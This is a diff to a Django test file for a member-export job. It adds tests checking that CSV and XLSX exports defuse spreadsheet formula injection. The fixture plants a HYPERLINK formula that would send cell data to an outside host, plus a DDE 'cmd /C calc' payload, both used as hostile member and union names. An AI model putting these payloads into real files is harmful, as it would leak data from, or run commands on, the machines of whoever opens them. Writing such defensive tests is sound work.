@@ -1,7 +1,9 @@
 """Member export as a background job: masked unless revealed with a reason (audited twice), the list's filters and
 scope carried into the job, progress per chunk, the file only for its owner, no query per row."""
+import csv
 import hashlib
 import io
+import zipfile
 
 import pytest
 from django.db import connection
@@ -17,6 +19,7 @@ from gonghui.jobs import services as job_services
 from gonghui.jobs.models import Job
 from gonghui.members import exports, imports, services
 from gonghui.members.models import Membership
+from gonghui.orgs.models import Org
 from gonghui.members.tests.factories import join
 from gonghui.members.tests.test_imports import csv_bytes, good_row
 
@@ -162,7 +165,7 @@ def test_no_query_per_row(manager, tmp_path):
 def test_the_temporary_file_is_gone_after_the_job_whether_it_worked_or_not(manager, members, export, monkeypatch, tmp_path):
     monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
     assert export(manager).status == "succeeded" and list(tmp_path.iterdir()) == []
-    monkeypatch.setattr(exports, "_write_csv", lambda target, rows: 1 / 0)
+    monkeypatch.setattr(exports, "write_csv_to", lambda target, columns, rows: 1 / 0)
     assert export(manager, fmt="csv").status == "failed" and list(tmp_path.iterdir()) == []
 
 
@@ -212,3 +215,47 @@ class TestPage:
         client.force_login(manager)
         response = client.post(reverse("members:list") + f"?within={org('440104').pk}", {"export": "xlsx"})
         assert response.status_code == 404 and not Job.objects.exists()
+
+
+HOSTILE_NAME = '=HYPERLINK("http://x.cn"&A1)'
+
+
+@pytest.fixture
+def hostile_member(manager, org):
+    """A member whose name and union's name are formulas that would send the sheet away if an office suite ran them."""
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows([imports_header(), good_row(name=HOSTILE_NAME, phone="13712345678")])
+    result = imports.member_import(actor=manager, data=buffer.getvalue().encode())
+    assert result.created == 1, result.errors
+    Org.objects.filter(code="440106006").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    return Membership.objects.get()
+
+
+def imports_header() -> list[str]:
+    return [column.header for column in imports.COLUMNS]
+
+
+@pytest.mark.parametrize("full", [False, True], ids=["masked", "full"])
+def test_no_csv_cell_starts_a_formula_and_every_code_reopens_as_the_same_text(manager, hostile_member, export, full):
+    rows = list(csv.reader(io.StringIO(csv_text(export(manager, fmt="csv", full=full, reason="核对名册信息" if full else "")))))
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("+", "-", "@", "\t", "\r")) and (not cell.startswith("=") or cell.startswith('="'))
+    header, row = rows
+    values = dict(zip(header, row))
+    assert values["姓名"].startswith("'=") and values["所在工会"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    person = hostile_member.person
+    assert values["会员编号"] == f'="{hostile_member.member_number}"' and values["所在工会编码"] == '="440106006"'
+    assert values["身份证号"] == (f'="{person.id_number}"' if full else f'="{person.id_number[:4]}{"*" * 10}{person.id_number[-4:]}"')
+    assert values["手机号"] == ('="13712345678"' if full else '="137****5678"')
+    if full:
+        assert values["姓名"] == "'" + HOSTILE_NAME
+
+
+def test_xlsx_cells_stay_strings_whatever_they_start_with(manager, hostile_member, export):
+    content = export(manager, fmt="xlsx", full=True, reason="核对名册信息").result_file.read()
+    with zipfile.ZipFile(io.BytesIO(content)) as package:
+        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml  # written as text, never as a formula
+    row = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()[1]
+    assert [row[1], row[5]] == [HOSTILE_NAME, "@SUM(1+1)*cmd|' /C calc'!A0"]
